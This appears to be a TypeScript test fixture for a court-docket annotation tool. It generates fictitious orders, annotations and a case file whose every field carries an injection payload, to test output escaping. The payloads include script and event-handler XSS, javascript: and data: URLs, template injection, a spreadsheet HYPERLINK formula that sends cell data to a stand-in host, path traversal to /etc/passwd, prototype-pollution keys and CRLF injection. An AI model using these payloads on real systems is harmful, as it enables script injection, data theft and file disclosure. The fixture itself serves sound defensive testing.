/** A `content/` that means harm: made-up orders and a case file whose every field tries to be more than words. */
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { stringify } from 'yaml';
import { cleanerVersion, normalize } from '../src/pipeline/clean/normalize.ts';
import { placesOf } from '../src/pipeline/mark/quote.ts';
import { FrontMatter } from '../src/pipeline/mark/vocabulary.ts';
import { writeMarked } from '../src/pipeline/mark/write.ts';
import type { Annotation } from '../src/schema/annotation.ts';

/** Where everything that runs would call to; the test sees a request for it. */
export const away = 'https://away.invalid';

/** Words that would run, or break out of what holds them, if anything took them for more than words. */
export const attacks = {
  script: `<script>ran('script');fetch('${away}/script')</script>`,
  picture: `"><img src=x onerror=ran('picture')>`,
  drawing: `<svg onload=ran('drawing')><image href="${away}/drawing"/></svg>`,
  foreign: `</title></textarea></noscript></style><iframe srcdoc="<script>parent.ran('foreign')</script>"></iframe>`,
  handler: `x" onmouseover="ran('handler')" onfocus="ran('handler')" autofocus tabindex="1`,
  single: `x' onclick='ran("single")' style='background:url(${away}/style)`,
  address: `javascript:ran('address')`,
  data: `data:text/html,<script>ran('data')</script>`,
  comment: `<!-- comment --><b>bold</b><!--`,
  cdata: `]]><script>ran('cdata')</script><![CDATA[`,
  entity: '&lt;script&gt;ran(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;',
  template: `{{constructor.constructor('ran(1)')()}} $\{ran(1)} <%= ran(1) %>`,
  meta: `<meta http-equiv="refresh" content="0;url=${away}/meta"><base href="${away}/">`,
  formula: `=HYPERLINK("${away}/?"&A1,"open");=1+1`,
  plus: '+1+cmd|calc',
  minus: '-2+3',
  at: '@SUM(1,2)',
  wide: '＝1+1',
  key: '__proto__',
  constructor: 'constructor',
  path: '../../../../etc/passwd',
  encoded: '..%2f..%2f%00.html',
  lines: 'first\r\nER  - \r\nTY  - CASE\r\nEND:VCALENDAR',
} as const;

/** Marks of direction and characters without width around words, and the words that are to be seen. */
export const turned = { written: 'Sm\u202eith\u2067 \u200bv.\ufeff Jo\u200dnes\u0007', seen: 'Smith v. Jones' };

const all = Object.values(attacks).map((words) => words.replace(/\s+/g, ' '));

/** The court's words of the first order: each attack once in the text, in a ruling, a deadline, an event, a warning. */
const quotes = {
  ruling: `The motion ${attacks.picture} ${attacks.script} at Docket No. 12 is DENIED`,
  second: `${attacks.formula} is DENIED, Docket No. 30`,
  third: `${attacks.minus} the letter, Docket No. 31, is GRANTED`,
  deadline: `${attacks.drawing} shall be filed by March 20, 2019`,
  event: `On February 1, 2019 ${attacks.handler} filed its motion`,
  warning: `sanctions ${attacks.comment} may be imposed`,
};
const paragraphs = [
  `Before the court are ${turned.written} and the words ${all.join(' and ')}.`,
  `${quotes.event}.`,
  `${quotes.ruling} because counsel did not confer.`,
  `${quotes.second}.`,
  `${quotes.third}.`,
  `${quotes.deadline}.`,
  `If not, ${quotes.warning}.`,
  '```ruling\nquote: "DENIED"\n```',
  '<script>ran("paragraph")</script>',
];

const place = { also: [], id: null, rule: 'note' };
const fields = {
  motion: attacks.script,
  movant: attacks.handler,
  authority: [attacks.drawing, attacks.formula],
  motionKind: null,
  grounds: ['other'],
  withoutPrejudice: false,
};

/** The notes on the words of the first order. */
function notesOn(text: string): Annotation[] {
  const span = (quote: string) => {
    const [found] = placesOf(text, quote, 0, text.length);
    if (!found) throw new TypeError(`the words are not in the text: ${quote}`);
    return found;
  };
  const notes = [
    { kind: 'ruling', span: span(quotes.ruling), fields: { ...fields, entries: ['12'], disposition: 'denied' } },
    {
      kind: 'ruling',
      span: span(quotes.second),
      fields: { ...fields, motion: attacks.formula, movant: attacks.at, entries: ['30'], disposition: 'denied' },
    },
    {
      kind: 'ruling',
      span: span(quotes.third),
      fields: { ...fields, motion: attacks.wide, movant: attacks.constructor, entries: ['31'], disposition: 'granted' },
    },
    {
      kind: 'deadline',
      span: span(quotes.deadline),
      fields: { date: '2019-03-20', days: null, unit: null, action: attacks.lines, addressee: 'both' },
    },
    {
      kind: 'event',
      span: span(quotes.event),
      fields: { date: '2019-02-01', kind: 'filing', entries: ['12'], party: attacks.picture },
    },
    {
      kind: 'warning',
      span: span(quotes.warning),
      fields: { kind: 'warning', consequences: ['monetary'], addressee: 'counsel', authority: [attacks.single] },
    },
  ];
  return notes.map((note) => ({ ...place, ...note })) as unknown as Annotation[];
}

type HostileOrder = { id: string; dated: string; caption: string; title: string; judge: string; entry: string | null };

/** The orders: an attack in each caption, title and judge. */
export const hostileOrders: readonly HostileOrder[] = [
  {
    id: 'nysd/18-cv-00007/2019-03-04',
    dated: '2019-03-04',
    caption: `${attacks.picture} v. ${turned.written}`,
    title: `Order ${attacks.script}`,
    judge: attacks.drawing,
    entry: '40',
  },
  {
    id: 'nysd/18-cv-00007/2019-04-04',
    dated: '2019-04-04',
    caption: attacks.formula,
    title: attacks.cdata,
    judge: attacks.key,
    entry: '41',
  },
  {
    id: 'azd/17-cv-04321/2018-11-05',
    dated: '2018-11-05',
    caption: `${attacks.key} v. ${attacks.constructor}`,
    title: attacks.template,
    judge: attacks.path,
    entry: null,
  },
  {
    id: 'unidentified/2017-01-09',
    dated: '2017-01-09',
    caption: attacks.foreign,
    title: attacks.lines,
    judge: attacks.constructor,
    entry: null,
  },
];

/** The case file: an attack in every field that holds words. */
const caseFile = {
  court: 'nysd',
  caseNumber: '18-cv-00007',
  caption: `${attacks.picture} v. ${turned.written}`,
  judges: [{ name: attacks.drawing, role: attacks.script, note: attacks.meta }],
  parties: [
    {
      name: attacks.picture,
      role: attacks.handler,
      aliases: [attacks.constructor, attacks.formula],
      about: attacks.script,
    },
    { name: turned.written, role: 'defendant', note: attacks.meta },
    { name: attacks.key, role: 'defendant', aliases: [attacks.at] },
  ],
  partyGroups: [{ label: attacks.single, members: [attacks.picture, attacks.key] }],
  reported: [attacks.foreign],
  ended: { date: '2019-12-01', text: attacks.script },
  outcome: [{ date: '2019-12-01', text: attacks.drawing, source: attacks.address }],
  relatedCases: [{ number: attacks.path, what: attacks.comment, source: attacks.data }],
  coverage: { text: attacks.foreign, source: attacks.address },
  laterHistory: [
    {
      entry: '40',
      by: attacks.script,
      date: '2019-10-01',
      effect: 'modified',
      text: attacks.picture,
      source: attacks.address,
    },
  ],
  disputes: [{ id: 'constructor', title: attacks.script, summary: attacks.handler, entries: ['12', '30', '40'] }],
  groups: [{ id: 'other', title: attacks.drawing, entries: ['1'] }],
  events: [
    { date: '2019-01-01', kind: 'hearing', text: attacks.script, dispute: 'constructor', source: attacks.address },
  ],
  entries: [
    entry('1', '2018-01-05', 'other', attacks.formula, attacks.minus),
    entry('12', '2019-02-01', 'motion', attacks.script, attacks.picture),
    entry('30', '2019-02-10', 'motion', attacks.plus, attacks.key),
    entry('31', '2019-02-11', 'letter', attacks.lines, turned.written),
    { ...entry('40', '2019-03-04', 'order', attacks.cdata, attacks.single), order: 'nysd/18-cv-00007/2019-03-04' },
    {
      ...entry('41', '2019-04-04', 'order', attacks.template, attacks.meta),
      order: 'nysd/18-cv-00007/2019-04-04',
      directive: { text: attacks.drawing, deadlines: ['2019-05-01'] },
      warnings: [{ kind: 'warning', addressee: 'both', consequences: ['monetary'], text: attacks.handler }],
    },
  ],
};

function entry(number: string, filed: string, kind: string, words: string, by: string) {
  return {
    entry: number,
    filed,
    kind,
    by,
    motion: words,
    description: words,
    docketText: `${words} ${attacks.picture}`,
    source: attacks.address,
    alsoSources: [`${away}/"onmouseover="ran('source')`, attacks.data],
    certainty: 'clerk',
    note: words,
  };
}

/** Write orders, texts and the case file below `folder`. */
export function writeHostileContent(folder: string): void {
  const write = (path: string, content: string) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  };
  for (const { id, dated, caption, title, judge, entry: own } of hostileOrders) {
    const raw = `${paragraphs.join('\n\n')}\n`;
    const { text } = normalize(raw);
    const [court, caseNumber] = id.startsWith('unidentified/') ? [null, null] : id.split('/');
    const front = FrontMatter.parse({
      court,
      caseNumber,
      caption,
      title,
      judge,
      decidedBy: attacks.handler,
      judgeInitials: [attacks.picture],
      dated,
      entry: own,
      text: `${id}.txt`,
      source: `${attacks.picture}${attacks.path}`,
      sourceUrl: `${away}/"onmouseover="ran('sourceUrl')`,
      retrieved: '2019-06-01',
      cleaner: cleanerVersion,
      sha256: createHash('sha256').update(raw).digest('hex'),
      review: 'reviewed',
    });
    write(`texts/${id}.txt`, raw);
    write(`orders/${id}.md`, writeMarked(front, text, notesOn(text)));
  }
  write('cases/nysd/18-cv-00007.yaml', stringify(caseFile));
}
